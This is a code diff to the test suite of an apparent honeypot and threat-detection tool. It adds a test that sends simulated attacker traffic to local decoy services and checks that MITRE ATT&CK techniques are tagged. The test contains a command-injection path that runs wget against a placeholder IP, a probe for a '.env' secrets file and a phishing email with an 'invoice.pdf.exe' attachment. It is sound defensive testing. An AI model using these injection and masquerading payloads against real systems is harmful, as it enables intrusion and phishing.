@@ -8,8 +8,13 @@ import json
 import os
 import random
 import signal
+import smtplib
+import sqlite3
 import subprocess
 import sys
+import urllib.error
+import urllib.request
+from email.message import EmailMessage
 from pathlib import Path
 from typing import Any
 
@@ -25,6 +30,7 @@ from decnet.workers.ttp import rehearse
 from tests.support.bus import DEADLINE, broker_process, bus_client, until
 from tests.support.decnet_env import migrated, query, worker
 from tests.support.ttp import insert, place, profile, seed, stamp, tags, visits
+from tests.support.visitors import decoy
 from zygote.errors import ZygoteError
 
 TTP = "decnet.workers.ttp"
@@ -395,6 +401,41 @@ def check_stix(bundle: dict[str, Any]) -> None:
             assert o["first_seen"] <= o["last_seen"] and 0 <= o["confidence"] <= 100
 
 
+async def test_ttp_finds_what_a_real_visitor_did(tmp_path: Path) -> None:
+    file = await asyncio.to_thread(migrated, tmp_path)
+    mail = EmailMessage()
+    mail["Subject"], mail["From"], mail["To"] = "Invoice", "a@example.org", "b@example.net"
+    mail.set_content("see the file")
+    mail.add_attachment(b"MZ", maintype="application", subtype="x", filename="invoice.pdf.exe")
+
+    def visit(http: int, smtp: int) -> None:
+        for path in ("/.env", "/cgi?x=;wget+http://198.51.100.7/a"):
+            with contextlib.suppress(urllib.error.HTTPError):
+                urllib.request.urlopen(f"http://127.0.0.1:{http}{path}", timeout=DEADLINE).close()
+        with smtplib.SMTP("127.0.0.1", smtp, timeout=DEADLINE) as client:
+            with contextlib.suppress(smtplib.SMTPException):
+                client.send_message(mail)
+
+    async with (
+        decoy(tmp_path, "http", DECNET_BUS_ENABLED="false") as web,
+        decoy(tmp_path, "smtp", DECNET_BUS_ENABLED="false") as post,
+    ):
+        await asyncio.to_thread(visit, web.port, post.port)
+    async with (
+        worker(tmp_path, "decnet.workers.collect", DECNET_BUS_ENABLED="false"),
+        worker(tmp_path, "decnet.workers.profiler", DECNET_BUS_ENABLED="false"),
+        worker(tmp_path, TTP, DECNET_BUS_ENABLED="false"),
+    ):
+        wanted = {"T1552.001", "T1190", "T1566.001", "T1204.002", "T1036.007"}
+        leaf = "SELECT DISTINCT coalesce(sub_technique_id, technique_id) FROM ttp_tag"
+        await until(lambda: {row[0] for row in query(file, leaf)} >= wanted)
+    stored = query(file, "SELECT evidence FROM ttp_tag WHERE source_kind = 'email'")
+    assert stored and not any("b@example" in text or "Invoice" in text for (text,) in stored)
+    assert query(
+        file, "SELECT DISTINCT ip FROM attackers JOIN ttp_tag ON attacker_uuid = attackers.uuid"
+    ) == [("127.0.0.1",)]
+
+
 async def test_ttp_rehearsal_leaves_nothing_running(tmp_path: Path) -> None:
     tasks = len(asyncio.all_tasks())
     await rehearse(tmp_path)
@@ -411,8 +452,6 @@ async def first(subscription: Any, number: int) -> Any:
 
 
 def query_write(file: Path, sql: str) -> None:
-    import sqlite3
-
     with contextlib.closing(sqlite3.connect(file, timeout=DEADLINE)) as connection, connection:
         connection.execute(sql)
 
